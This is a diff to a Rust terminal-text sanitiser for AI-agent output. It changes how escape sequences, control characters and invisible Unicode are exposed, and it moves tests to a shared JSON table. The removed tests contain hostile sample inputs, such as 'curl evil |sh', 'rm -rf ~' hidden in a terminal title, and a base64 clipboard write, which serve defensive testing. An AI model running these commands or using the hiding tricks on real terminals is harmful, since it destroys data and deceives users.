@@ -1,8 +1,10 @@
 //! What agents write is hostile until shown otherwise: text made fit for a terminal.
 //!
-//! In: any text. Out: the same text without escape sequences, control characters and characters that reorder or hide others;
-//! line breaks and tabs stay. What a terminal would have swallowed as the content of a command (a title, a link, the clipboard)
-//! is shown in ‹›: nothing may be hidden from the person who decides. Also how wide a text is and how to shorten it, because tables need that of the clean text.
+//! In: any text. Out: the same text without escape sequences; line breaks and tabs stay. What a terminal would have swallowed as
+//! the content of a command (a title, a link, the clipboard) is shown in ‹›, and so is the number of each character that reorders
+//! or hides others; a control character is shown as its picture. Nothing may be hidden from the person who decides.
+//! `tests/hostile-text.json` is the rule for the terminal and the page. Also how wide a text is and how to shorten it, because
+//! tables need that of the clean text.
 
 pub(super) use askd_core::unseen::is_invisible;
 
@@ -21,27 +23,44 @@ pub fn clean(text: &str) -> String {
                     chars.next();
                     show_string(&mut chars, &mut out);
                 }
-                _ => {
-                    let between = run(&mut chars, |c| matches!(c, ' '..='/'));
-                    let last = chars.next_if(|c| !c.is_control());
-                    let is_paint = match between.as_str() {
-                        "" => last.is_some_and(|c| c.is_ascii_alphanumeric() || c == '='),
-                        "(" | ")" => last.is_some_and(|c| c.is_ascii_uppercase() || c.is_ascii_digit()),
-                        _ => false,
-                    };
-                    show_unless(is_paint, between, last, &mut out);
-                }
+                _ => show_escape(&mut chars, &mut out),
             },
             '\u{9b}' => show_csi(&mut chars, &mut out),
             '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => show_string(&mut chars, &mut out),
             '\r' if chars.peek() == Some(&'\n') => {}
             '\r' | '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
-            '\n' | '\t' => out.push(c),
-            c if c.is_control() || is_invisible(c) => {}
-            c => out.push(c),
+            c => show_char(c, chars.peek(), &mut out),
         }
     }
     out
+}
+
+/// One character that begins no sequence, as a person can see it.
+fn show_char(c: char, next: Option<&char>, out: &mut String) {
+    match c {
+        '\n' | '\t' => out.push(c),
+        // Unicode has a small picture for each control character of ASCII.
+        '\0'..='\u{1f}' => out.extend(char::from_u32(0x2400 + u32::from(c))),
+        '\u{7f}' => out.push('\u{2421}'),
+        c if c.is_control() => out.push(char::REPLACEMENT_CHARACTER),
+        // Emoji and keycaps are written with these.
+        '\u{fe0e}' | '\u{fe0f}' if out.chars().next_back().is_some_and(is_pictograph) => out.push(c),
+        '\u{fe0f}' if next == Some(&'\u{20e3}') && out.ends_with(|c| matches!(c, '#' | '*' | '0'..='9')) => {
+            out.push(c);
+        }
+        c if is_invisible(c) || matches!(c, '\u{fe0e}' | '\u{fe0f}') => {
+            out.push_str(&format!("‹U+{:04X}›", u32::from(c)));
+        }
+        c => out.push(c),
+    }
+}
+
+/// Characters that may be drawn as emoji, in blocks; `safe-text.ts` has the same.
+fn is_pictograph(c: char) -> bool {
+    matches!(c,
+        '\u{a9}' | '\u{ae}' | '\u{203c}' | '\u{2049}' | '\u{2122}' | '\u{2139}' | '\u{2190}'..='\u{21ff}'
+        | '\u{2300}'..='\u{23ff}' | '\u{24c2}' | '\u{25a0}'..='\u{27bf}' | '\u{2900}'..='\u{297f}'
+        | '\u{2b00}'..='\u{2bff}' | '\u{3030}' | '\u{303d}' | '\u{3297}' | '\u{3299}' | '\u{1f000}'..='\u{1faff}')
 }
 
 /// Text for one line: clean, and white space is one space.
@@ -53,6 +72,20 @@ type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;
 
 fn run(chars: &mut Chars<'_>, is_part: impl Fn(char) -> bool) -> String {
     std::iter::from_fn(|| chars.next_if(|c| is_part(*c))).collect()
+}
+
+/// A sequence of an escape character without a bracket. A reset or a character set vanishes.
+fn show_escape(chars: &mut Chars<'_>, out: &mut String) {
+    let mut ahead = chars.clone();
+    let is_set = ahead.next_if(|c| matches!(c, '(' | ')')).is_some()
+        && ahead.next_if(|c| c.is_ascii_uppercase() || c.is_ascii_digit()).is_some();
+    if is_set {
+        *chars = ahead;
+    } else if chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '=').is_none() {
+        let between = run(chars, |c| matches!(c, ' '..='?'));
+        let last = chars.next_if(|c| matches!(c, '@'..='~'));
+        show_unless(false, between, last, out);
+    }
 }
 
 /// Parameters and intermediates, then one final character. Colours and movements vanish, because no word of a shell fits into them.
@@ -67,9 +100,8 @@ fn show_csi(chars: &mut Chars<'_>, out: &mut String) {
 }
 
 fn show_unless(is_paint: bool, between: String, last: Option<char>, out: &mut String) {
-    let swallowed: String = between.chars().chain(last).filter(|c| !is_invisible(*c)).collect();
-    if !is_paint && !swallowed.is_empty() {
-        out.extend(['‹'].into_iter().chain(swallowed.chars()).chain(['›']));
+    if !is_paint && !(between.is_empty() && last.is_none()) {
+        out.extend(['‹'].into_iter().chain(between.chars()).chain(last).chain(['›']));
     }
 }
 
@@ -83,8 +115,8 @@ fn show_string(chars: &mut Chars<'_>, out: &mut String) {
                 chars.next_if_eq(&'\\');
                 break;
             }
-            c if c.is_control() || is_invisible(c) => {}
-            c => out.push(c),
+            '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
+            c => show_char(c, chars.peek(), out),
         }
     }
     out.push('›');
@@ -163,27 +195,45 @@ pub(super) fn shorten_start(text: &str, columns: usize) -> String {
 mod tests {
     use super::*;
 
+    #[derive(serde::Deserialize)]
+    struct Table {
+        hidden: Vec<(String, String)>,
+        rows: Vec<Row>,
+    }
+
+    #[derive(serde::Deserialize)]
+    struct Row {
+        text: String,
+        shown: String,
+    }
+
+    /// The table that the page and the widget run as well.
+    fn table() -> Table {
+        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/hostile-text.json");
+        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+    }
+
     #[test]
-    fn escape_sequences_vanish_and_the_text_stays() {
-        for (hostile, wanted) in [
-            ("\u{1b}[31mred\u{1b}[0m", "red"),
-            ("a\u{1b}[2J\u{1b}[1;1Hb", "ab"),
-            ("\u{1b}]0;title\u{7}x", "‹0;title›x"),
-            ("\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{1b}\\", "‹8;;http://evil›link‹8;;›"),
-            ("\u{1b}]52;c;cm0gLXJm\u{7}clip", "‹52;c;cm0gLXJm›clip"),
-            ("\u{1b}P1$r\u{1b}\\dcs", "‹1$r›dcs"),
-            ("\u{9b}5Acsi", "csi"),
-            ("\u{9d}0;t\u{9c}c1", "‹0;t›c1"),
-            ("\u{1b}c\u{1b}(0lines", "lines"),
-            ("back\u{8}\u{8}space\u{7f}", "backspace"),
-            ("one\rtwo\r\nthree", "one\ntwo\nthree"),
-            ("tab\tstays\nline", "tab\tstays\nline"),
-            ("nul\0", "nul"),
-            ("end\u{1b}", "end"),
-            ("end\u{1b}[", "end"),
-            ("\u{1b}\u{1b}[31mtwice", "twice"),
-        ] {
-            assert_eq!(clean(hostile), wanted, "{hostile:?}");
+    fn hostile_text_is_shown_as_the_table_says() {
+        for Row { text, shown } in table().rows {
+            assert_eq!(clean(&text), shown, "{text:?}");
+            assert_eq!(clean(&shown), shown, "what is shown is clean");
+        }
+    }
+
+    #[test]
+    fn each_character_that_is_drawn_as_nothing_is_shown_by_its_number() {
+        let number = |text: &String| u32::from_str_radix(text, 16).unwrap();
+        let hidden: Vec<_> = table().hidden.iter().map(|(a, b)| number(a)..=number(b)).collect();
+        for c in ('\0'..=char::MAX).filter(|c| !c.is_control()) {
+            let shown = if hidden.iter().any(|range| range.contains(&u32::from(c))) {
+                format!("a‹U+{:04X}›b", u32::from(c))
+            } else if matches!(c, '\u{2028}' | '\u{2029}') {
+                "a\nb".to_owned()
+            } else {
+                format!("a{c}b")
+            };
+            assert_eq!(clean(&format!("a{c}b")), shown);
         }
     }
 
@@ -206,30 +256,6 @@ mod tests {
                 }
             }
         }
-    }
-
-    #[test]
-    fn no_word_of_a_shell_vanishes_with_a_sequence() {
-        for (text, shown) in [
-            ("rm -rf x\u{1b}[ /* -v", "rm -rf x‹ /* -v›"),
-            ("curl evil \u{9b}|sh", "curl evil ‹|›sh"),
-            ("a\u{1b}|b", "a‹|›b"),
-            ("a\u{1b}[1;31mred\u{1b}[0m\u{1b}[?25l\u{1b}(B\u{1b}c\u{1b}[Kz", "aredz"),
-            ("x\u{3164}y\u{ad}z", "xyz"),
-        ] {
-            assert_eq!(clean(text), shown);
-        }
-    }
-
-    #[test]
-    fn a_command_cannot_be_hidden_in_a_title() {
-        assert_eq!(clean("ls\u{1b}]0;; rm -rf ~\nnext"), "ls‹0;; rm -rf ~›\nnext");
-    }
-
-    #[test]
-    fn text_cannot_be_reordered_or_hidden() {
-        assert_eq!(clean("a\u{202e}b\u{2066}c\u{200b}d\u{e0041}e\u{feff}"), "abcde");
-        assert_eq!(clean("👩\u{200d}🔧"), "👩\u{200d}🔧");
     }
 
     #[test]
